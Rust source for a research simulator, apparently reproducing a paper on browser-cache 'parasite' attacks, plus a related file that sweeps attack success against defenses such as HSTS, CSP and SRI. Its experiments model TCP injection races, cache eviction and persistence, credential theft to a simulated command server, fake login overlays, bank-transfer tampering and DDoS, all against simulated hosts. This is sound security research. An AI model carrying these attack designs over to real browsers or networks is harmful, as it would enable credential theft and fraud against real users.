use super::{standard_infector, ExperimentError, RunConfig, RunCtx, MASTER_HOST};
use crate::attacks::{self, AttackReport};
use crate::cnc::CncServer;
use crate::eviction::{junk_origin, EvictionAttack, EvictionReport};
use crate::json::{Json, ToJson};
use crate::master::Master;
use crate::script::Parasite;
use mp_apps::banking::BankingApp;
use mp_apps::webmail::WebMailApp;
use mp_browser::browser::{Browser, FetchSource};
use mp_browser::profile::{BrowserProfile, OperatingSystem};
use mp_httpsim::body::{Body, ResourceKind};
use mp_httpsim::message::{Request, Response};
use mp_httpsim::transport::{Exchange, Internet, StaticOrigin};
use mp_httpsim::url::{Scheme, Url};
use mp_netsim::capture::TraceMode;
use mp_netsim::error::NetError;
use mp_netsim::link::MediumKind;
use mp_netsim::sim::{FixedResponder, SharedBudget, Simulator, DEFAULT_EVENT_BUDGET};
use mp_netsim::time::Duration as SimDuration;
use mp_webcache::{table4_entries, SharedCache};
use serde::{Deserialize, Serialize};

// ---------------------------------------------------------------------------
// Table I — cache eviction
// ---------------------------------------------------------------------------

/// Result of the Table I experiment.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Table1Result {
    /// One report per evaluated browser.
    pub rows: Vec<EvictionReport>,
}

impl Table1Result {
    /// Renders rows shaped like Table I.
    pub fn render(&self) -> String {
        let mut out = String::from("Table I - cache eviction on popular browsers\n");
        out.push_str("browser                     | eviction | inter-domain | size (MB) | remarks\n");
        for row in &self.rows {
            out.push_str(&format!(
                "{:<27} | {:<8} | {:<12} | {:>9.0} | {}\n",
                row.browser,
                if row.evicted_targets { "yes" } else { "no" },
                if row.inter_domain { "yes" } else { "no" },
                row.cache_capacity_bytes as f64 / 1_000_000.0,
                row.remark
            ));
        }
        out
    }
}

impl ToJson for EvictionReport {
    fn to_json(&self) -> Json {
        Json::obj([
            ("browser", self.browser.to_json()),
            ("evicted_targets", self.evicted_targets.to_json()),
            ("inter_domain", self.inter_domain.to_json()),
            ("junk_objects_loaded", self.junk_objects_loaded.to_json()),
            ("junk_bytes", self.junk_bytes.to_json()),
            ("memory_pressure", self.memory_pressure.to_json()),
            ("cache_capacity_bytes", self.cache_capacity_bytes.to_json()),
            ("remark", self.remark.to_json()),
        ])
    }
}

impl ToJson for Table1Result {
    fn to_json(&self) -> Json {
        Json::obj([("rows", self.rows.to_json())])
    }
}

/// Runs the cache-eviction attack against every Table I browser profile.
///
/// `config.scale` shrinks the cache sizes and junk objects so the experiment
/// runs in milliseconds; the *behaviour* (who evicts, who melts down) is
/// unaffected.
pub(super) fn table1_cache_eviction(
    config: &RunConfig,
    _ctx: &RunCtx,
) -> Result<Table1Result, ExperimentError> {
    let scale = config.scale.max(1);
    let rows = BrowserProfile::table1_browsers()
        .into_iter()
        .map(|profile| {
            let original_capacity = profile.cache_capacity_bytes;
            let scaled = BrowserProfile {
                cache_capacity_bytes: (profile.cache_capacity_bytes / scale).max(10_000),
                ..profile
            };
            let junk_size = 2_048usize;
            let junk_count = (scaled.cache_capacity_bytes as usize / junk_size) + 8;

            let mut victim_site = StaticOrigin::new("bank.example");
            victim_site.put_text(
                "/app.js",
                ResourceKind::JavaScript,
                "function bank(){}",
                "public, max-age=86400",
            );
            let mut net = Internet::new();
            net.register_origin(victim_site);
            net.register_origin(junk_origin(junk_size, junk_count));

            let mut browser = Browser::new(scaled, Box::new(net));
            let target = Url::parse("http://bank.example/app.js").expect("static url");
            browser.fetch(&target, "bank.example");
            let mut report = EvictionAttack::new(junk_size, junk_count).run(&mut browser, &[target]);
            report.cache_capacity_bytes = original_capacity;
            report
        })
        .collect();
    Ok(Table1Result { rows })
}

// ---------------------------------------------------------------------------
// Table II — TCP injection matrix
// ---------------------------------------------------------------------------

/// One cell of the Table II matrix.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum InjectionCell {
    /// Injection succeeded.
    Success,
    /// Injection failed.
    Failure,
    /// The browser does not ship on this OS.
    NotApplicable,
}

impl ToJson for InjectionCell {
    fn to_json(&self) -> Json {
        Json::Str(
            match self {
                InjectionCell::Success => "success",
                InjectionCell::Failure => "failure",
                InjectionCell::NotApplicable => "n/a",
            }
            .to_string(),
        )
    }
}

/// Result of the Table II experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table2Result {
    /// Browser column labels.
    pub browsers: Vec<String>,
    /// Matrix rows: OS label plus one cell per browser.
    pub rows: Vec<(String, Vec<InjectionCell>)>,
}

impl Table2Result {
    /// Renders the matrix like Table II.
    pub fn render(&self) -> String {
        let mut out = String::from("Table II - TCP injection evaluation\n");
        out.push_str(&format!("{:<9}", "OS"));
        for browser in &self.browsers {
            out.push_str(&format!(" | {browser:<8}"));
        }
        out.push('\n');
        for (os, cells) in &self.rows {
            out.push_str(&format!("{os:<9}"));
            for cell in cells {
                let symbol = match cell {
                    InjectionCell::Success => "ok",
                    InjectionCell::Failure => "FAIL",
                    InjectionCell::NotApplicable => "n/a",
                };
                out.push_str(&format!(" | {symbol:<8}"));
            }
            out.push('\n');
        }
        out
    }

    /// Returns `true` if no supported combination failed.
    pub fn all_supported_succeed(&self) -> bool {
        self.rows
            .iter()
            .flat_map(|(_, cells)| cells.iter())
            .all(|c| *c != InjectionCell::Failure)
    }
}

impl ToJson for Table2Result {
    fn to_json(&self) -> Json {
        Json::obj([
            ("browsers", self.browsers.to_json()),
            (
                "rows",
                Json::Arr(
                    self.rows
                        .iter()
                        .map(|(os, cells)| {
                            Json::obj([("os", os.to_json()), ("cells", cells.to_json())])
                        })
                        .collect(),
                ),
            ),
        ])
    }
}

/// A completed packet-level injection race, kept around so callers can
/// inspect what the victim received ([`injection_race`]) or the full packet
/// trace (the Figure 2 flow).
pub(super) struct RaceRun {
    /// The simulator after `run_until_idle`.
    pub(super) sim: Simulator,
    /// The victim host.
    pub(super) victim: mp_netsim::endpoint::HostId,
    /// The victim's connection to the genuine server.
    pub(super) conn: mp_netsim::endpoint::ConnId,
}

/// Link/attacker timing for one race world. The paper's Figure 2 numbers are
/// [`RaceTiming::PAPER`]; the heterogeneous campaign draws per-AP variants
/// from seeded distributions (see `ApProfile` in the campaign module).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct RaceTiming {
    /// Delay between the master's tap seeing the request and forging the
    /// response, in microseconds.
    pub(super) attacker_reaction_us: u64,
    /// One-way latency of the shared-WiFi access medium, in microseconds.
    pub(super) wifi_latency_us: u64,
    /// One-way WAN latency to the genuine server, in microseconds.
    pub(super) server_one_way_us: u64,
}

impl RaceTiming {
    /// The paper's Figure 2 / Table II timing: 0.3 ms attacker reaction, 2 ms
    /// WiFi hop, 40 ms one-way WAN.
    pub(super) const PAPER: RaceTiming = RaceTiming {
        attacker_reaction_us: 300,
        wifi_latency_us: 2_000,
        server_one_way_us: 40_000,
    };
}

/// The paper's race world before any victims are attached: a shared-WiFi
/// access network with the master's tap on it, and the genuine server for
/// `somesite.com/my.js` across the WAN. [`run_race_simulation`] adds the
/// single victim of Figure 2 / Table II; the campaign fleet experiment adds
/// a whole café of them.
pub(super) struct RaceWorld {
    /// The simulator with media, server, responder and tap wired up.
    pub(super) sim: Simulator,
    /// The shared-WiFi medium victims attach to.
    pub(super) wifi: mp_netsim::link::MediumId,
    /// The genuine server (listening on port 80).
    pub(super) server: mp_netsim::endpoint::HostId,
    /// The object the master races for.
    pub(super) target: Url,
}

/// Builds the race world under the given [`RaceTiming`], with at most
/// `event_budget` simulator events, the given trace recorder mode, and an
/// optional cross-simulator [`SharedBudget`] every processed event also
/// debits.
pub(super) fn build_race_world(
    seed: u64,
    timing: &RaceTiming,
    event_budget: u64,
    trace_mode: TraceMode,
    shared: Option<&SharedBudget>,
) -> RaceWorld {
    let master = Master::new(MASTER_HOST);
    let target = Url::parse("http://somesite.com/my.js").expect("static url");
    let genuine = Response::ok(Body::text(ResourceKind::JavaScript, "function genuine(){}"))
        .with_cache_control("public, max-age=86400");
    let (tap, _stats) = master.packet_tap(
        &[(target.clone(), genuine.clone())],
        SimDuration::from_micros(timing.attacker_reaction_us),
    );

    let mut sim = Simulator::new(seed)
        .with_event_budget(event_budget)
        .with_trace_mode(trace_mode);
    if let Some(shared) = shared {
        sim.set_shared_budget(shared.clone());
    }
    let wifi = sim.add_medium(MediumKind::SharedWireless, timing.wifi_latency_us);
    let wan = sim.add_medium(MediumKind::WideArea, timing.server_one_way_us);
    let server = sim.add_host("server", mp_netsim::addr::IpAddr::new(203, 0, 113, 10), wan);
    sim.listen(server, 80);
    sim.set_service(
        server,
        Box::new(FixedResponder::new(genuine.to_wire(), SimDuration::from_micros(500))),
    );
    sim.add_tap(wifi, Box::new(tap));

    RaceWorld {
        sim,
        wifi,
        server,
        target,
    }
}

/// Builds and runs the paper's injection race: one victim on the shared WiFi
/// of [`build_race_world`] requesting the target object.
///
/// # Errors
///
/// Returns [`NetError::EventBudgetExhausted`] if the budget runs out.
pub(super) fn run_race_simulation(
    seed: u64,
    attacker_reaction_us: u64,
    server_one_way_us: u64,
    event_budget: u64,
    trace_mode: TraceMode,
    shared: Option<&SharedBudget>,
) -> Result<RaceRun, NetError> {
    let timing = RaceTiming {
        attacker_reaction_us,
        server_one_way_us,
        ..RaceTiming::PAPER
    };
    let RaceWorld {
        mut sim,
        wifi,
        server,
        target,
    } = build_race_world(seed, &timing, event_budget, trace_mode, shared);
    let victim = sim.add_host("victim", mp_netsim::addr::IpAddr::new(10, 0, 0, 2), wifi);
    let conn = sim.connect(victim, server, 80).expect("hosts exist");
    sim.send(victim, conn, &Request::get(target).to_wire()).expect("connection exists");
    sim.run_until_idle()?;

    Ok(RaceRun { sim, victim, conn })
}

/// One packet-level injection race; returns `true` if the victim ends up
/// with the parasite.
fn injection_race(
    seed: u64,
    attacker_reaction_us: u64,
    server_one_way_us: u64,
    event_budget: u64,
    trace_mode: TraceMode,
    shared: Option<&SharedBudget>,
) -> Result<bool, NetError> {
    let race = run_race_simulation(seed, attacker_reaction_us, server_one_way_us, event_budget, trace_mode, shared)?;
    Ok(Response::from_wire(&race.sim.received(race.victim, race.conn))
        .ok()
        .map(|r| Parasite::detect(&r.body.as_text()).is_some())
        .unwrap_or(false))
}

/// Runs one packet-level injection race with the paper's standard timing
/// (0.3 ms attacker reaction, 40 ms one-way WAN) and reports whether the
/// victim ended up with the parasite.
pub fn run_injection_race(seed: u64) -> bool {
    injection_race(seed, 300, 40_000, DEFAULT_EVENT_BUDGET, TraceMode::SummaryOnly, None)
        .expect("the standard race stays far within the default event budget")
}

/// Parametric variant of the injection race: the attacker reacts after
/// `attacker_reaction_us` and the genuine server sits `server_one_way_us`
/// away (one-way WAN latency). Returns `true` if the victim ends up with the
/// parasite. Used by the race-crossover ablation: the attack only works while
/// the spoofed response beats the genuine one to the victim.
pub fn injection_race_with_timing(attacker_reaction_us: u64, server_one_way_us: u64) -> bool {
    injection_race(1234, attacker_reaction_us, server_one_way_us, DEFAULT_EVENT_BUDGET, TraceMode::SummaryOnly, None)
        .expect("the parametric race stays far within the default event budget")
}

/// Runs the Table II OS × browser injection matrix.
pub(super) fn table2_injection_matrix(
    config: &RunConfig,
    ctx: &RunCtx,
) -> Result<Table2Result, ExperimentError> {
    let shared = ctx.budget_for(config);
    let browsers = BrowserProfile::table2_browsers();
    let browser_names = browsers.iter().map(|b| b.kind.to_string()).collect();
    let mut rows = Vec::new();
    for (os_index, os) in OperatingSystem::ALL.iter().enumerate() {
        let mut cells = Vec::new();
        for (browser_index, browser) in browsers.iter().enumerate() {
            if !browser.runs_on(*os) {
                cells.push(InjectionCell::NotApplicable);
                continue;
            }
            // TCP injection does not depend on the browser or OS (both follow
            // the TCP specification); run the race to confirm it.
            let seed = config.seed.wrapping_add((os_index * 16 + browser_index) as u64 + 1);
            if injection_race(seed, 300, 40_000, config.event_budget, config.trace_mode, shared.as_ref())? {
                cells.push(InjectionCell::Success);
            } else {
                cells.push(InjectionCell::Failure);
            }
        }
        rows.push((os.to_string(), cells));
    }
    Ok(Table2Result {
        browsers: browser_names,
        rows,
    })
}

// ---------------------------------------------------------------------------
// Table III — refresh methods vs Cache-API parasites
// ---------------------------------------------------------------------------

/// The user actions evaluated in Table III.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum RefreshMethod {
    /// Ctrl-F5 hard reload.
    HardReload,
    /// Clear the HTTP cache.
    ClearCache,
    /// Clear cookies / site data.
    ClearCookies,
}

impl std::fmt::Display for RefreshMethod {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let name = match self {
            RefreshMethod::HardReload => "Ctrl+F5",
            RefreshMethod::ClearCache => "clear cache",
            RefreshMethod::ClearCookies => "clear cookies",
        };
        f.write_str(name)
    }
}

/// One cell of Table III: did the refresh method remove the parasite?
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum RemovalCell {
    /// The parasite was removed.
    Removed,
    /// The parasite survived.
    Survived,
    /// The browser has no Cache API (IE).
    NotApplicable,
}

impl ToJson for RemovalCell {
    fn to_json(&self) -> Json {
        Json::Str(
            match self {
                RemovalCell::Removed => "removed",
                RemovalCell::Survived => "survived",
                RemovalCell::NotApplicable => "n/a",
            }
            .to_string(),
        )
    }
}

/// Result of the Table III experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table3Result {
    /// Rows: browser name plus one cell per refresh method
    /// (Ctrl-F5, clear cache, clear cookies).
    pub rows: Vec<(String, Vec<RemovalCell>)>,
}

impl Table3Result {
    /// Renders rows shaped like Table III.
    pub fn render(&self) -> String {
        let mut out = String::from("Table III - refresh methods vs Cache-API parasites\n");
        out.push_str("browser              | Ctrl+F5   | clear cache | clear cookies\n");
        for (browser, cells) in &self.rows {
            let text: Vec<&str> = cells
                .iter()
                .map(|c| match c {
                    RemovalCell::Removed => "removed",
                    RemovalCell::Survived => "stays",
                    RemovalCell::NotApplicable => "n/a",
                })
                .collect();
            out.push_str(&format!(
                "{:<20} | {:<9} | {:<11} | {}\n",
                browser, text[0], text[1], text[2]
            ));
        }
        out
    }
}

impl ToJson for Table3Result {
    fn to_json(&self) -> Json {
        Json::obj([(
            "rows",
            Json::Arr(
                self.rows
                    .iter()
                    .map(|(browser, cells)| {
                        Json::obj([
                            ("browser", browser.to_json()),
                            ("hard_reload", cells[0].to_json()),
                            ("clear_cache", cells[1].to_json()),
                            ("clear_cookies", cells[2].to_json()),
                        ])
                    })
                    .collect(),
            ),
        )])
    }
}

fn parasite_survives_after(profile: BrowserProfile, method: RefreshMethod) -> RemovalCell {
    if !profile.cache_api_supported {
        return RemovalCell::NotApplicable;
    }
    let infector = standard_infector();
    let target = Url::parse("http://top1.com/persistent.js").expect("static url");

    let mut origin = StaticOrigin::new("top1.com");
    origin.put_text("/persistent.js", ResourceKind::JavaScript, "function lib(){}", "public, max-age=86400");
    let mut browser = Browser::new(profile, Box::new(origin));

    // The parasite stored an infected copy through the Cache API.
    let infected = infector.infect_response(
        &Response::ok(Body::text(ResourceKind::JavaScript, "function lib(){}"))
            .with_cache_control("public, max-age=86400"),
    );
    browser
        .cache_api_mut()
        .put(&target.origin().to_string(), "parasite", &target, infected);

    match method {
        RefreshMethod::HardReload => {
            browser.hard_reload(&target);
        }
        RefreshMethod::ClearCache => {
            browser.clear_http_cache();
        }
        RefreshMethod::ClearCookies => {
            browser.clear_cookies_and_site_data();
        }
    }

    let result = browser.fetch(&target, "top1.com");
    let survives = result.source == FetchSource::CacheApi
        && infector.is_infected(&result.response.body.as_text());
    if survives {
        RemovalCell::Survived
    } else {
        RemovalCell::Removed
    }
}

/// Runs the Table III experiment over the paper's browser set.
pub(super) fn table3_refresh_methods(
    _config: &RunConfig,
    _ctx: &RunCtx,
) -> Result<Table3Result, ExperimentError> {
    let browsers = vec![
        BrowserProfile::chrome(),
        BrowserProfile::firefox(),
        BrowserProfile::edge(),
        BrowserProfile::opera(),
        BrowserProfile::internet_explorer(),
    ];
    let rows = browsers
        .into_iter()
        .map(|profile| {
            let name = profile.kind.to_string();
            let cells = vec![
                parasite_survives_after(profile.clone(), RefreshMethod::HardReload),
                parasite_survives_after(profile.clone(), RefreshMethod::ClearCache),
                parasite_survives_after(profile, RefreshMethod::ClearCookies),
            ];
            (name, cells)
        })
        .collect();
    Ok(Table3Result { rows })
}

// ---------------------------------------------------------------------------
// Table IV — caches in the wild
// ---------------------------------------------------------------------------

/// One evaluated cache row.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table4Row {
    /// Location section.
    pub location: String,
    /// Product class.
    pub class: String,
    /// Instance name.
    pub name: String,
    /// Whether the infection persisted for a second client over HTTP.
    pub infected_over_http: bool,
    /// Whether the infection persisted for a second client over HTTPS
    /// (assuming the deployment makes HTTPS visible to the cache).
    pub infected_over_https: bool,
    /// Comment from the taxonomy.
    pub comment: Option<String>,
}

impl ToJson for Table4Row {
    fn to_json(&self) -> Json {
        Json::obj([
            ("location", self.location.to_json()),
            ("class", self.class.to_json()),
            ("name", self.name.to_json()),
            ("infected_over_http", self.infected_over_http.to_json()),
            ("infected_over_https", self.infected_over_https.to_json()),
            ("comment", self.comment.to_json()),
        ])
    }
}

/// Result of the Table IV experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table4Result {
    /// Rows in the paper's order.
    pub rows: Vec<Table4Row>,
}

impl Table4Result {
    /// Renders rows shaped like Table IV.
    pub fn render(&self) -> String {
        let mut out = String::from("Table IV - caches in the wild (infection persists for a second client?)\n");
        out.push_str(&format!("{:<28} {:<26} {:<34} | http | https\n", "location", "type", "instance"));
        for row in &self.rows {
            out.push_str(&format!(
                "{:<28} {:<26} {:<34} | {:<4} | {}\n",
                row.location,
                row.class,
                row.name,
                if row.infected_over_http { "yes" } else { "no" },
                if row.infected_over_https { "yes" } else { "no" }
            ));
        }
        out
    }
}

impl ToJson for Table4Result {
    fn to_json(&self) -> Json {
        Json::obj([("rows", self.rows.to_json())])
    }
}

fn shared_cache_infection(instance: mp_webcache::CacheInstance, https: bool) -> bool {
    let scheme = if https { Scheme::Https } else { Scheme::Http };
    let host = "top1.com";
    let mut origin = StaticOrigin::new(host);
    origin.put_text("/persistent.js", ResourceKind::JavaScript, "function lib(){}", "public, max-age=86400");

    let infector = standard_infector();
    let mut injecting = crate::injection::InjectingExchange::new(origin, infector.clone());
    let target = Url::from_parts(scheme, host, "/persistent.js");
    injecting.add_target(&target);
    if https {
        // The target site's HTTPS deployment is broken enough to inject
        // (otherwise the transport question is moot for every cache class).
        injecting
            .injectability_mut()
            .set(host, mp_httpsim::tls::TlsDeployment::legacy_ssl(mp_httpsim::tls::TlsVersion::Ssl3));
    }

    // The cache sees HTTPS if the deployment includes interception/offload.
    let mut cache = SharedCache::new(instance, injecting, true);

    // Victim A (on the hostile path) pulls the object through the cache.
    let _ = cache.exchange(&Request::get(target.clone()));
    // The attacker goes away; victim B fetches through the same cache.
    let second = cache.exchange(&Request::get(target.clone()));
    infector.is_infected(&second.body.as_text()) && cache.peek(&target).is_some()
}

/// Runs the Table IV experiment over every taxonomy row.
pub(super) fn table4_caches(
    _config: &RunConfig,
    _ctx: &RunCtx,
) -> Result<Table4Result, ExperimentError> {
    let rows = table4_entries()
        .into_iter()
        .map(|instance| {
            // Browser caches are per-client; the "second client" question only
            // applies to shared caches, so browser rows reuse the Table III
            // persistence result (the parasite persists in the client cache).
            let (http, https) = if !instance.shared_between_clients() {
                (instance.http.possible(), instance.https.possible())
            } else {
                (
                    instance.http.possible() && shared_cache_infection(instance.clone(), false),
                    instance.https.possible() && shared_cache_infection(instance.clone(), true),
                )
            };
            Table4Row {
                location: instance.location.to_string(),
                class: instance.class.to_string(),
                name: instance.name.clone(),
                infected_over_http: http,
                infected_over_https: https,
                comment: instance.comment.clone(),
            }
        })
        .collect();
    Ok(Table4Result { rows })
}

// ---------------------------------------------------------------------------
// Table V — application attacks
// ---------------------------------------------------------------------------

/// Result of the Table V experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table5Result {
    /// One report per attack row exercised.
    pub reports: Vec<AttackReport>,
}

impl Table5Result {
    /// Renders rows shaped like Table V.
    pub fn render(&self) -> String {
        let mut out = String::from("Table V - attacks against applications\n");
        out.push_str(&format!("{:<45} {:<16} {:<10} {}\n", "attack", "property", "succeeded", "target"));
        for report in &self.reports {
            let property = match report.property {
                attacks::SecurityProperty::Confidentiality => "C",
                attacks::SecurityProperty::Integrity => "I",
                attacks::SecurityProperty::Availability => "A",
            };
            out.push_str(&format!(
                "{:<45} {:<16} {:<10} {}\n",
                report.name,
                property,
                if report.succeeded { "yes" } else { "no" },
                report.target
            ));
        }
        out
    }

    /// Number of successful attacks.
    pub fn successes(&self) -> usize {
        self.reports.iter().filter(|r| r.succeeded).count()
    }
}

impl ToJson for AttackReport {
    fn to_json(&self) -> Json {
        Json::obj([
            ("name", self.name.to_json()),
            (
                "property",
                Json::Str(
                    match self.property {
                        attacks::SecurityProperty::Confidentiality => "confidentiality",
                        attacks::SecurityProperty::Integrity => "integrity",
                        attacks::SecurityProperty::Availability => "availability",
                    }
                    .to_string(),
                ),
            ),
            ("target", self.target.to_json()),
            ("succeeded", self.succeeded.to_json()),
            ("requirements_met", self.requirements_met.to_json()),
            ("evidence", self.evidence.to_json()),
        ])
    }
}

impl ToJson for Table5Result {
    fn to_json(&self) -> Json {
        Json::obj([
            ("reports", self.reports.to_json()),
            ("successes", self.successes().to_json()),
        ])
    }
}

/// Runs every Table V attack module against the simulated applications.
pub(super) fn table5_attacks(
    _config: &RunConfig,
    _ctx: &RunCtx,
) -> Result<Table5Result, ExperimentError> {
    let mut reports = Vec::new();
    let mut cnc = CncServer::new(MASTER_HOST);

    // --- Steal login data + fake login overlay (banking).
    let mut bank = BankingApp::default();
    let (mut login_dom, login_form) = bank.login_dom();
    let user = login_dom.by_name("username").expect("login form").id;
    let pass = login_dom.by_name("password").expect("login form").id;
    login_dom.set_attr(user, "value", "alice");
    login_dom.set_attr(pass, "value", "correct-horse");
    let submission = login_dom.submit_form(login_form).expect("form exists");
    let session = bank.login(&submission).expect("credentials are valid");
    reports.push(attacks::steal_login_data(&login_dom, &mut cnc, "campaign-0"));
    let mut overlay_dom = login_dom.clone();
    reports.push(attacks::fake_login_overlay(&mut overlay_dom));

    // --- Browser data.
    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(Internet::new()));
    let bank_page = Url::parse("https://bank.example/account").expect("static url");
    browser.cookies_mut().set_from_header("session=bank-cookie", &bank_page, 0);
    browser
        .storage_mut()
        .set_item(&bank_page.origin().to_string(), "last_login", "2021-05-17");
    reports.push(attacks::read_browser_data(&browser, &bank_page, &mut cnc, "campaign-0"));

    // --- Personal browser data (domain already has microphone permission).
    reports.push(attacks::capture_personal_data(true, &bank_page));

    // --- Website data (webmail inbox) + phishing.
    let mut mail = WebMailApp::default();
    let (mut mail_dom, mail_form) = mail.login_dom();
    let email = mail_dom.by_name("email").expect("login form").id;
    let password = mail_dom.by_name("password").expect("login form").id;
    mail_dom.set_attr(email, "value", "alice@mail.example");
    mail_dom.set_attr(password, "value", "mail-pass-123");
    let mail_session = mail.login(&mail_dom.submit_form(mail_form).expect("form")).expect("valid");
    let inbox = mail.inbox_dom(&mail_session).expect("session valid");
    reports.push(attacks::read_website_data(&inbox, &mut cnc, "campaign-0"));
    reports.push(attacks::cross_tab_side_channel(&mut cnc, "campaign-0", b"tab-sync"));
    reports.push(attacks::send_phishing_via_webmail(&mut mail, &mail_session, true));

    // --- 2FA bypass / transaction manipulation.
    reports.push(attacks::manipulate_bank_transfer(
        &mut bank,
        &session,
        "FR76 3000 6000 0112 3456 7890 189",
        "GB29 ATTACKER 0000 0000 0000 00",
        "480.00",
    ));

    // --- Resource theft, clickjacking, ad injection, DDoS.
    reports.push(attacks::steal_computation(10_000));
    let mut page_dom = mp_browser::dom::Dom::new(Url::parse("http://news.example/").expect("static url"));
    reports.push(attacks::clickjacking(&mut page_dom, "news.example"));
    reports.push(attacks::ad_injection(&mut page_dom, 4));
    reports.push(attacks::browser_ddos(250, 40, "victim-service.example"));

    // --- OS-level exploits (delivered by the parasite, platform dependent).
    reports.push(attacks::low_level_exploit("JS CPU Cache & Spectre", true));
    reports.push(attacks::low_level_exploit("Rowhammer", true));
    reports.push(attacks::low_level_exploit("0-day on Demand", true));

    // --- Victim network.
    reports.push(attacks::internal_network_recon(&[
        ("192.168.0.1 (router, default credentials)", true),
        ("192.168.0.23 (ip camera)", true),
        ("192.168.0.99 (printer)", false),
    ]));
    reports.push(attacks::browser_ddos(250, 40, "192.168.0.1"));

    Ok(Table5Result { reports })
}
