//! The attack-surface registry experiment: probability surfaces over
//! (attack vector × master reaction latency × WAN latency × jitter ×
//! defense adoption).
//!
//! The paper's core quantitative claim is a *probability*: the parasite wins
//! the injection race against the genuine server with likelihood set by the
//! master's reaction latency, per-packet jitter and the defenses the victim
//! population deploys. The repo has every ingredient — the Figure 2 race
//! world, the §VIII defense matrix, seeded distributions — and this
//! experiment maps them: a dense seeded grid sweep running hundreds of race
//! trials per cell and emitting figure-style curves (race success vs.
//! reaction delay, steady-state infection vs. defense adoption) with Wilson
//! 95% intervals, as both a rendered table and a JSON series.
//!
//! Determinism contract: per-cell seeds come from dedicated splitmix streams
//! ([`SURFACE_TAG`] for the race worlds, [`ADOPT_TAG`] for the adoption
//! draws), cells run on the same order-preserving thread pool as the fleet
//! sweep, and the defended-trial draws never depend on the adoption fraction
//! itself — so the artifact is byte-identical across `fleet_jobs` /
//! `fleet_shards` values and the adoption curve is monotone non-increasing
//! *by construction* (common random numbers: raising adoption only grows the
//! defended set).

use super::campaign::{fleet_jobs, mix_seed, MAX_CLIENTS_PER_AP};
use super::multiday::DAILY_CACHE_CLEAR;
use super::tables::{build_race_world, RaceTiming, RaceWorld};
use super::{parallel_tasks, ExperimentError, RunConfig, RunCtx};
use crate::defense::{stage_survives, AttackStage, Defense};
use crate::json::{Json, ToJson};
use crate::script::Parasite;
use mp_httpsim::message::{Request, Response};
use mp_netsim::addr::IpAddr;
use mp_netsim::capture::TraceMode;
use mp_netsim::error::NetError;
use mp_netsim::sim::SharedBudget;
use mp_netsim::time::Duration as SimDuration;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

/// Seed-stream tag for per-cell race worlds: cell `(v, d, w, j)` simulates
/// under `mix_seed(seed, SURFACE_TAG ^ cell_tag(v, d, w, j))`, a stream
/// disjoint from the campaign module's per-AP, shard, profile and day
/// streams.
pub(super) const SURFACE_TAG: u64 = 0x5caf_ace0_0000_0000;

/// Seed-stream tag for the defense-adoption draws. Deliberately separate from
/// [`SURFACE_TAG`]: the adoption gate must not perturb the race RNG, and the
/// per-trial draw must not depend on the adoption fraction (common random
/// numbers keep the adoption curve monotone).
pub(super) const ADOPT_TAG: u64 = 0xad07_7000_0000_0000;

/// Hard cap on grid-axis lengths so [`cell_tag`] bit fields cannot overlap.
const MAX_AXIS_STEPS: usize = 1 << 16;

/// Packs one grid cell's coordinates into the seed-stream index: vector in
/// bits 48+, delay in bits 32–47, WAN latency in bits 16–31, jitter in bits
/// 0–15. Axis lengths are validated against [`MAX_AXIS_STEPS`], so the
/// 16-bit lanes never overlap.
pub(super) fn cell_tag(vector: usize, delay_idx: usize, wan_idx: usize, jitter_idx: usize) -> u64 {
    ((vector as u64) << 48)
        | ((delay_idx as u64) << 32)
        | ((wan_idx as u64) << 16)
        | jitter_idx as u64
}

// ---------------------------------------------------------------------------
// Attack vectors
// ---------------------------------------------------------------------------

/// One attack vector of the surface sweep: an injection-race campaign paired
/// with the attack stage it must complete and the §VIII countermeasure the
/// defended share of the population deploys against it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum SurfaceVector {
    /// The active injection race against HSTS-preloaded victims: preloading
    /// removes the plaintext window, so adoption directly removes victims.
    RaceVsHsts,
    /// The same race scored against a *strict CSP* population — the paper's
    /// headline: CSP does **not** stop active injection, so the adoption
    /// curve stays flat.
    RaceVsCsp,
    /// Cache persistence vs. Subresource Integrity: SRI blocks re-use of the
    /// cached, tampered script, so adopted victims shed the parasite.
    PersistVsSri,
    /// Cross-domain propagation vs. cache partitioning: partitioned caches
    /// stop the cross-site spread.
    PropagateVsPartitioning,
}

impl SurfaceVector {
    /// All vectors, in the report's row order.
    pub const ALL: [SurfaceVector; 4] = [
        SurfaceVector::RaceVsHsts,
        SurfaceVector::RaceVsCsp,
        SurfaceVector::PersistVsSri,
        SurfaceVector::PropagateVsPartitioning,
    ];

    /// The canonical id string (used by `--surface-vectors` and the JSON).
    pub fn as_str(&self) -> &'static str {
        match self {
            SurfaceVector::RaceVsHsts => "race_vs_hsts",
            SurfaceVector::RaceVsCsp => "race_vs_csp",
            SurfaceVector::PersistVsSri => "persist_vs_sri",
            SurfaceVector::PropagateVsPartitioning => "propagate_vs_partitioning",
        }
    }

    /// The countermeasure the defended population share deploys.
    pub fn defense(&self) -> Defense {
        match self {
            SurfaceVector::RaceVsHsts => Defense::HstsPreload,
            SurfaceVector::RaceVsCsp => Defense::StrictCsp,
            SurfaceVector::PersistVsSri => Defense::SubresourceIntegrity,
            SurfaceVector::PropagateVsPartitioning => Defense::CachePartitioning,
        }
    }

    /// The attack stage the vector must complete after winning the race.
    pub fn stage(&self) -> AttackStage {
        match self {
            SurfaceVector::RaceVsHsts | SurfaceVector::RaceVsCsp => AttackStage::ActiveInjection,
            SurfaceVector::PersistVsSri => AttackStage::CachePersistence,
            SurfaceVector::PropagateVsPartitioning => AttackStage::CrossDomainPropagation,
        }
    }

